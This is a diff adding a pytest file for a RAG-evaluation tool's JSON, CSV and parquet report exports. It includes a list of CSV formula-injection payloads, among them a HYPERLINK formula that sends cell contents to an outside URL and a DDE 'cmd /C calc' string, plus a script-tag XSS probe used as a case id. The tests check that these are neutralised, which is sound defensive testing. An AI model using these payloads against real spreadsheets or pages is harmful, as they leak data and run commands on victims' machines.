@@ -1,0 +1,478 @@
+"""A run as JSON, CSV and parquet."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+import pandas as pd
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+
+from example_run import HOSTILE, example_run, verdict
+from misslink.errors import InputError
+from misslink.report import exports as table
+from misslink.report.exports import (
+    build_document,
+    case_columns,
+    case_records,
+    case_rows,
+    check_overwritable,
+    csv_cell,
+    write_csv,
+    write_json,
+    write_parquet,
+)
+from misslink.types import Case, Run, Trace
+from proven_run import proven_run
+
+CASE_KEYS = {
+    *("number", "id", "question", "category", "tags", "tier"),
+    *("retrieval", "answer", "correct", "failure", "owner", "also", "reason", "basis"),
+    *("answer_text", "error", "latency_s", "metrics", "verdicts", "people", "missed", "claims"),
+    "retrieved",
+}
+
+
+def refuse(constant):
+    raise AssertionError(f"{constant} is no JSON")
+
+
+@pytest.fixture(scope="module")
+def read(tmp_path_factory):
+    path = write_json(proven_run(), tmp_path_factory.mktemp("json") / "report.json")
+    return json.loads(path.read_text(encoding="utf-8"), parse_constant=refuse)
+
+
+@pytest.fixture(scope="module")
+def of_case(read):
+    return {case["id"]: case for case in read["cases"]}
+
+
+def test_its_keys_are_those_that_are_promised(read):
+    assert set(read) == {
+        *("format", "run", "manifest", "summary", "next", "failures", "unmeasured", "cases"),
+        *("headline", "corrected", "calibrations", "audit"),
+    }
+    assert read["format"] == 1
+    assert read["run"] == "reports/today"
+    assert all(set(case) == CASE_KEYS for case in read["cases"])
+    assert all({"action", "why", "cases", "fragment"} == set(step) for step in read["next"])
+
+
+def test_summary_and_manifest_are_as_they_were(read):
+    run = proven_run()
+    assert read["summary"] == run.summary
+    assert read["manifest"] == run.manifest
+
+
+def test_cases_stand_in_the_order_of_the_gold_set(read):
+    assert [case["number"] for case in read["cases"]] == list(range(1, 15))
+    assert [case["id"] for case in read["cases"]] == [case.id for case in proven_run().cases]
+
+
+def test_a_case_holds_what_every_level_said(of_case):
+    """Worked out by hand from `example_run._miss` and its measured passages."""
+    case = of_case["with-exit"]
+    assert (case["retrieval"], case["answer"], case["correct"]) == ("miss", "unfaithful", False)
+    assert (case["failure"], case["also"]) == ("retrieval_miss", ["fabricated"])
+    assert (case["basis"], case["latency_s"]) == ("replayed", 2.34)
+    assert case["claims"] == {"supported": 1, "contradicted": 1, "unsupported": 2}
+    assert case["metrics"]["recall@5"] == case["metrics"]["mrr"] == 0
+    assert case["metrics"]["faithfulness"] == 0.25
+    assert case["metrics"]["fully_faithful"] == 0
+    assert case["metrics"]["correctness_recall"] == 0.5
+    assert case["verdicts"]["faithfulness"] == {
+        "status": "scored",
+        "value": 0.25,
+        "label": False,
+        "probability": 0.07,
+        "reason": "1 of 4 claims is supported",
+    }
+    assert [one["passage_id"] for one in case["missed"]] == ["with#1", "with#1", "evidence-2"]
+    assert {"grade", "true_rank", "miss_type", "depth", "distance"} <= set(case["missed"][0])
+
+
+def test_a_hit_at_the_first_rank_has_its_rank_metrics_at_the_runs_k(of_case):
+    found = of_case["lambda"]["metrics"]
+    ranks = {name: found[name] for name in ("hit@5", "mrr", "recall@5", "precision@5", "ndcg@5")}
+    assert ranks == {"hit@5": 1, "mrr": 1, "recall@5": 1, "precision@5": 0.2, "ndcg@5": 1}
+
+
+def test_what_was_not_measured_is_null_and_says_why(of_case):
+    refused = of_case["refused"]
+    assert refused["metrics"]["faithfulness"] is None
+    assert refused["claims"] is None
+    assert refused["verdicts"]["faithfulness"]["status"] == "failed"
+    assert refused["verdicts"]["faithfulness"]["reason"] == "the reply was not JSON"
+    assert of_case["negative-1"]["metrics"]["recall@5"] is None, "it needs no passage"
+
+
+def test_every_case_has_every_metric(read):
+    (names,) = {tuple(case["metrics"]) for case in read["cases"]}
+    assert "correctness" in names
+    assert HOSTILE[3] in names, "a judged metric of anybody's"
+
+
+def test_causes_say_how_many_of_how_many_and_which(read):
+    assert [row["failure"] for row in read["failures"]][:2] == [
+        "retrieval_miss",
+        "over_refused",
+    ]
+    first = read["failures"][0]
+    assert (first["count"], first["cases"]) == (2, [4, 14])
+    assert first["share"]["n"] == 14
+    assert first["share"]["value"] == pytest.approx(2 / 14)
+    assert sum(row["count"] for row in read["failures"]) == 14
+
+
+def test_a_run_of_cases_alone_says_nothing_of_them():
+    run = example_run().model_copy(update={"traces": (), "verdicts": (), "links": ()})
+    found = build_document(run)
+    assert found["failures"] == []
+    first = found["cases"][0]
+    assert first["failure"] is first["answer_text"] is first["claims"] is None
+    assert first["metrics"] == dict.fromkeys(["hit@5", "mrr", "recall@5", "precision@5", "ndcg@5"])
+
+
+def test_an_empty_run_is_a_document_too():
+    empty = Run(manifest={}, cases=(), traces=(), verdicts=(), links=(), summary={})
+    found = build_document(empty)
+    assert (found["run"], found["cases"], found["failures"]) == (None, [], [])
+
+
+def test_a_metric_of_a_plugin_that_is_not_here_says_so():
+    run = example_run()
+    ranks = run.summary["retrieval"] | {"far_rank@5": run.summary["retrieval"]["mrr"]}
+    found = build_document(run.model_copy(update={"summary": run.summary | {"retrieval": ranks}}))
+    assert "far_rank" in found["unmeasured"]["far_rank@5"]
+    assert "far_rank@5" not in found["cases"][0]["metrics"]
+
+
+def test_of_two_verdicts_of_a_metric_the_first_counts_as_on_the_page():
+    run = example_run()
+    again = verdict("lambda", "faithfulness", 0.5)
+    found = build_document(run.model_copy(update={"verdicts": (*run.verdicts, again)}))
+    assert found["cases"][1]["metrics"]["faithfulness"] == 1
+
+
+def test_half_a_surrogate_pair_is_no_obstacle(tmp_path):
+    run = example_run()
+    case = run.cases[0].model_copy(update={"question": "What\ud800?"})
+    path = write_json(run.model_copy(update={"cases": (case,)}), tmp_path / "r.json")
+    assert json.loads(path.read_text(encoding="utf-8"))["cases"][0]["question"] == "What??"
+
+
+def test_two_cases_of_one_id_are_refused():
+    run = example_run()
+    with pytest.raises(InputError, match="two cases have the id 'rtl'"):
+        build_document(run.model_copy(update={"cases": (*run.cases, run.cases[0])}))
+
+
+def test_what_people_found_stands_beside_what_the_judge_did(read, of_case):
+    run = proven_run()
+    faithful, correct = read["corrected"]["fully_faithful"], read["corrected"]["correct"]
+
+    assert faithful["metric"] == "faithfulness"
+    stored = run.calibration["corrected"]["prediction_powered"]
+    assert faithful["estimate"] == {"reason_code": None, **stored}
+    assert (faithful["by"], faithful["labels"], faithful["own"]) == (
+        "prediction-powered",
+        220,
+        True,
+    )
+    assert faithful["raw"]["value"] == pytest.approx(7 / 11)  # at 0.43; three verdicts failed
+    assert (correct["by"], correct["own"]) == ("rogan-gladen", False)
+    assert set(read["calibrations"]) == {"faithfulness", "correctness"}
+    assert read["audit"] == run.audit
+    assert of_case["memory"]["people"] == {
+        "faithfulness": {"word": "bad (0.33)", "share": 1 / 3, "stands": "disagree"}
+    }
+    assert of_case["with-exit"]["people"]["faithfulness"] == {
+        "word": None,
+        "share": None,
+        "stands": "tied",
+    }
+    assert of_case["negative-2"]["people"] == {}
+
+
+def test_a_run_that_nobody_labelled_has_nothing_to_correct():
+    found = build_document(example_run())
+    assert (found["corrected"], found["calibrations"], found["audit"]) == ({}, {}, None)
+
+
+FORMULAS = (
+    '=HYPERLINK("https://e.org?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1;2)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+    "--1",
+    "-",
+    "=",
+    " =1+1",
+    "\xa0\u3000@SUM(1)",
+    "\u200b=1+1",
+    "\ufeff\u202e+1+1",
+    "\u2028=1+1",
+    "\ufe661+1",
+    "\uff0d1+1",
+)
+
+
+def run_of(*cases):
+    return Run(manifest={}, cases=cases, traces=(), verdicts=(), links=(), summary={})
+
+
+def table_of(run, tmp_path, **options):
+    return pd.read_csv(write_csv(run, tmp_path / "report.csv"), **options)
+
+
+@pytest.fixture(scope="module")
+def frame(tmp_path_factory):
+    return table_of(proven_run(), tmp_path_factory.mktemp("csv")).set_index("number")
+
+
+def test_a_row_a_case_under_the_paths_of_the_document(frame):
+    run = proven_run()
+    assert list(frame["id"]) == [case.id for case in run.cases]
+    for record, (number, row) in zip(case_records(run), frame.iterrows(), strict=True):
+        assert number == record["number"]
+        for name, value in record["metrics"].items():
+            shown = row[f"metrics.{name}"]
+            assert (pd.isna(shown) and value is None) or shown == value
+        for metric, held in record["verdicts"].items():
+            assert row[f"verdicts.{metric}.status"] == held["status"]
+        assert row["failure"] == record["failure"]
+
+
+def test_a_case_is_what_was_worked_out_by_hand(frame):
+    row = frame.loc[14]
+    assert (row["id"], row["correct"], row["tags.topic"]) == (
+        "with-exit",
+        False,
+        "context managers",
+    )
+    assert (row["metrics.recall@5"], row["metrics.faithfulness"]) == (0, 0.25)
+    assert (row["claims.supported"], row["claims.unsupported"]) == (1, 2)
+    assert row["verdicts.faithfulness.label"] == False  # noqa: E712
+    assert row["missed.passage_id"] == "with#1; with#1; evidence-2"
+    assert row["missed.true_rank"].split("; ")[0] == "17"
+    assert row["also"] == "fabricated"
+
+
+def test_numbers_are_numbers_and_what_is_missing_is_empty(frame):
+    assert frame["metrics.recall@5"].dtype == float
+    assert frame["latency_s"].dtype == float
+    assert pd.isna(frame.loc[3, "metrics.recall@5"]), "it needs no passage"
+    assert pd.isna(frame.loc[5, "claims.supported"]), "its verdict failed"
+
+
+def test_it_is_rfc_4180(tmp_path):
+    content = write_csv(proven_run(), tmp_path / "report.csv").read_bytes()
+    text = content.decode("utf-8")
+    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
+    assert {len(row) for row in rows} == {len(rows[0])}
+    assert len(rows) == 1 + len(proven_run().cases)
+    assert text.startswith('"number","id","question",')
+    assert text.endswith("\r\n")
+    again = io.StringIO()
+    csv.writer(again, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(rows)
+    assert text == again.getvalue()  # every cell between quotes, so that no ; in one parts it
+    assert "\0" not in text
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_what_a_spreadsheet_would_run_is_text(formula, tmp_path):
+    """In every field that text reaches, the names of columns among them."""
+    case = Case(id=formula, question=formula, category=formula, tags={formula: formula})
+    path = write_csv(run_of(case), tmp_path / "report.csv")
+    with path.open(encoding="utf-8", newline="") as file:
+        cells = [one for row in csv.reader(file) for one in row]
+    assert cells.count(f"'{formula}") == 4  # the id, the question, the category, the tag
+    assert not [one for one in cells if one.strip(" \u200b\ufeff")[:1] in tuple("=+-@\t\r\n\uff1d")]
+
+
+@pytest.mark.parametrize("text", ["", " ", "\u200b", "a = b", "1;=2", " plain", "\u2212 5"])
+def test_what_no_spreadsheet_runs_is_left_as_it_is(text):
+    assert csv_cell(text) == text
+
+
+@pytest.mark.parametrize("number", ["-3", "+4.5", "-1e-7", "-.5"])
+def test_a_number_is_no_formula(number):
+    assert csv_cell(number) == number
+
+
+def test_formulas_in_lists_are_text_too():
+    assert csv_cell(["=1+1", "b"]) == "'=1+1; b"
+    assert csv_cell(["a", "=1+1", -3]) == "a; '=1+1; -3"
+
+
+def test_texts_of_any_kind_are_read_back_as_they_were(tmp_path):
+    texts = [f"{place}: {text}" for place, text in enumerate((*HOSTILE, 'a"b', "a,b", "a\r\nb"))]
+    cases = [Case(id=f"c{place}", question=text) for place, text in enumerate(texts)]
+    found = table_of(run_of(*cases), tmp_path, keep_default_na=False)
+    assert list(found["question"]) == [text.replace("\0", "\ufffd") for text in texts]
+
+
+def test_an_outcome_and_a_metric_of_one_name_are_two_columns():
+    """`correct` is both the outcome of a case and a number of a judged metric."""
+    names = case_columns(example_run())
+    assert len(names) == len(set(names))
+    assert {"correct", "metrics.correct"} <= set(names)
+    assert set(names) == {name for row in case_rows(example_run()) for name in row}
+
+
+def test_a_run_without_cases_has_a_header(tmp_path):
+    found = table_of(run_of(), tmp_path)
+    assert len(found) == 0
+    assert {"number", "id", "failure", "claims.supported"} <= set(found.columns)
+
+
+def test_half_a_surrogate_pair_is_no_obstacle_csv_export(tmp_path):
+    case = Case(id="c", question="What?").model_copy(update={"question": "What\ud800?"})
+    assert table_of(run_of(case), tmp_path)["question"][0] == "What??"
+
+
+def test_it_agrees_with_the_document_where_pandas_flattens_that(tmp_path):
+    flattened = pd.json_normalize(json.loads(json.dumps(case_records(proven_run()))))
+    frame = table_of(proven_run(), tmp_path)
+    shared = [name for name in frame.columns if name.startswith(("metrics.", "claims."))]
+    assert len(shared) > 10
+    pd.testing.assert_frame_equal(frame[shared].astype(float), flattened[shared].astype(float))
+
+
+def run_of_parquet_export(*cases, **parts):
+    empty = {"traces": (), "verdicts": (), "links": ()}
+    return Run(manifest={}, summary={}, cases=cases, **(empty | parts))
+
+
+@pytest.fixture(scope="module")
+def read_parquet_export(tmp_path_factory):
+    return pq.read_table(
+        write_parquet(proven_run(), tmp_path_factory.mktemp("parquet") / "a.parquet")
+    )
+
+
+def test_it_has_the_columns_of_the_csv_and_every_value_of_the_document(
+    read_parquet_export, tmp_path
+):
+    with table.write_csv(proven_run(), tmp_path / "a.csv").open(
+        encoding="utf-8", newline=""
+    ) as file:
+        assert read_parquet_export.column_names == next(csv.reader(file))
+    records = case_records(proven_run())
+    assert read_parquet_export.column("id").to_pylist() == [one["id"] for one in records]
+    for row, record in zip(read_parquet_export.to_pylist(), records, strict=True):
+        values = {name.partition(".")[2]: value for name, value in row.items()
+                  if name.startswith("metrics.")}  # fmt: skip
+        assert values == record["metrics"]
+        assert row["missed.passage_id"] == [one["passage_id"] for one in record["missed"]]
+        assert row["missed.true_rank"] == [one["true_rank"] for one in record["missed"]]
+        assert (row["correct"], row["failure"]) == (record["correct"], record["failure"])
+        assert row["retrieved"] == record["retrieved"]
+
+
+def test_columns_have_types_also_where_no_case_has_a_value(read_parquet_export):
+    types = {
+        name: read_parquet_export.schema.field(name).type
+        for name in read_parquet_export.column_names
+    }
+    assert types["number"] == pa.int64()
+    assert types["correct"] == types["verdicts.faithfulness.label"] == pa.bool_()
+    assert types["metrics.recall@5"] == types["latency_s"] == pa.float64()
+    assert types["verdicts.faithfulness.probability"] == types["metrics.faithfulness"]
+    assert types["missed.true_rank"] == pa.list_(pa.int64())
+    assert types["also"] == types["retrieved"] == pa.list_(pa.string())
+    assert types["claims.unsupported"] == pa.int64()
+    assert types["verdicts.faithfulness.status"] == types["tier"] == pa.string()
+
+
+def test_what_is_missing_is_null_and_no_nan(read_parquet_export):
+    assert read_parquet_export.column("metrics.recall@5")[2].as_py() is None, "it needs no passage"
+    assert read_parquet_export.column("claims.supported")[4].as_py() is None, "its verdict failed"
+
+
+def test_pandas_computes_with_it(tmp_path):
+    path = write_parquet(example_run(), tmp_path / "a.parquet")
+    frame = pd.read_parquet(path)
+    missed = frame[frame["failure"] == "retrieval_miss"]
+    assert list(missed["id"]) == ["<script>window.pwned = 1</script>", "with-exit"]
+    assert missed["metrics.faithfulness"].mean() == pytest.approx((0.25 + 0.4) / 2)
+
+
+@pytest.mark.parametrize("text", [*HOSTILE, "=1+1", "a\0b", "\u2028", "", "\U0001f40d"])
+def test_a_text_is_what_it_was(text, tmp_path):
+    case = Case(id="c", question=f"What of {text}?", category=text, tags={text: text})
+    read_parquet_export = pq.read_table(
+        write_parquet(run_of_parquet_export(case), tmp_path / "a.parquet")
+    )
+    assert read_parquet_export.column(f"tags.{text}").to_pylist() == [text]
+    assert read_parquet_export.column("category").to_pylist() == [text]
+
+
+def test_half_a_surrogate_pair_is_no_obstacle_parquet_export(tmp_path):
+    case = Case(id="c", question="?").model_copy(
+        update={"question": "What\ud800?", "tags": {"a\udc00": "b\ud800"}}
+    )
+    read_parquet_export = pq.read_table(
+        write_parquet(run_of_parquet_export(case), tmp_path / "a.parquet")
+    )
+    assert read_parquet_export.column("question").to_pylist() == ["What??"]
+    assert read_parquet_export.column("tags.a?").to_pylist() == ["b?"]
+
+
+def test_a_run_without_cases_has_columns_and_no_row(tmp_path):
+    read_parquet_export = pq.read_table(
+        write_parquet(run_of_parquet_export(), tmp_path / "a.parquet")
+    )
+    assert read_parquet_export.num_rows == 0
+    assert {"number", "id", "failure", "missed.passage_id", "retrieved"} <= set(
+        read_parquet_export.column_names
+    )
+
+
+def test_it_is_written_in_groups_of_rows(tmp_path, monkeypatch):
+    monkeypatch.setattr(table, "_BATCH_ROWS", 4)
+    file = pq.ParquetFile(write_parquet(example_run(), tmp_path / "a.parquet"))
+    groups = [file.metadata.row_group(at).num_rows for at in range(file.num_row_groups)]
+    assert groups == [4, 4, 4, 2]
+    assert file.read().column("number").to_pylist() == list(range(1, 15))
+
+
+def test_what_cannot_be_written_leaves_the_old_file_and_no_part(tmp_path):
+    path = write_parquet(example_run(), tmp_path / "a.parquet")
+    before = path.read_bytes()
+    twice = run_of_parquet_export(
+        Case(id="c", question="?"), traces=(Trace(case_id="c"), Trace(case_id="c"))
+    )
+    with pytest.raises(InputError, match="two traces have the id 'c'"):
+        write_parquet(twice, path)
+    assert path.read_bytes() == before
+    assert [one.name for one in tmp_path.iterdir()] == ["a.parquet"]
+
+
+def test_a_path_that_takes_no_file_is_one_sentence(tmp_path):
+    (tmp_path / "file").write_text("")
+    with pytest.raises(InputError, match="this is a folder; give another path"):
+        write_parquet(example_run(), tmp_path)
+    with pytest.raises(InputError, match=r"it cannot be written \(.*\); give another path"):
+        write_parquet(example_run(), tmp_path / "file" / "a.parquet")
+
+
+def test_a_file_that_misslink_did_not_write_is_not_written_over(tmp_path):
+    path = tmp_path / "a.parquet"
+    check_overwritable(path)
+    write_parquet(example_run(), path)
+    check_overwritable(path)
+    pq.write_table(pa.table({"mine": [1]}), path)
+    with pytest.raises(InputError, match="misslink did not write it; move it"):
+        check_overwritable(path)
+    path.write_text("no parquet at all")
+    with pytest.raises(InputError, match="did not write it"):
+        check_overwritable(path)
